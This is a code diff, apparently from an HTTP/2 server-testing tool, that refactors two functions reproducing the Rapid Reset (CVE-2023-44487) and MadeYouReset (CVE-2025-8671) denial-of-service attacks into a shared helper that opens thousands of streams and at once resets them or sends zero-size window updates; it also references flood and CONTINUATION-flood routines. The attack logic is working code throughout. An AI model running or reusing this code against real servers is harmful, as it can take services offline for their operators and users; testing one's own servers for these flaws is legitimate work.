@@ -140,32 +140,25 @@ def _flood(target: Target, unit: bytes, times: int, *, first: bytes = b"", reads
         return verdict(peer)
 
 
-def rapid_reset(target: Target) -> str:
-    """Calls that are taken back at once: each costs the server a call, and the caller nothing (CVE-2023-44487)."""
+def _many_calls(target: Target, after: Callable[[int], bytes]) -> str:
+    """20,000 calls, each followed at once by what `after` makes of its stream."""
     with Peer(target.address, patience_s=10.0) as peer:
         for first in range(1, 40_000, 400):
-            calls = (
-                Peer.opening(stream, path=target.path) + frame(RST_STREAM, 0, stream, number(8))
-                for stream in range(first, first + 400, 2)
-            )
+            calls = (Peer.opening(stream, path=target.path) + after(stream) for stream in range(first, first + 400, 2))
             if not peer.send(b"".join(calls)) or peer.over:
                 break
         peer.drained()
         return verdict(peer)
+
+
+def rapid_reset(target: Target) -> str:
+    """Calls that are taken back at once: each costs the server a call, and the caller nothing (CVE-2023-44487)."""
+    return _many_calls(target, lambda stream: frame(RST_STREAM, 0, stream, number(8)))
 
 
 def made_you_reset(target: Target) -> str:
     """The same, but the server is brought to reset its calls: each gets a window update of nothing (CVE-2025-8671)."""
-    with Peer(target.address, patience_s=10.0) as peer:
-        for first in range(1, 40_000, 400):
-            calls = (
-                Peer.opening(stream, path=target.path) + frame(WINDOW_UPDATE, 0, stream, number(0))
-                for stream in range(first, first + 400, 2)
-            )
-            if not peer.send(b"".join(calls)) or peer.over:
-                break
-        peer.drained()
-        return verdict(peer)
+    return _many_calls(target, lambda stream: frame(WINDOW_UPDATE, 0, stream, number(0)))
 
 
 def continuation_flood(target: Target) -> str:
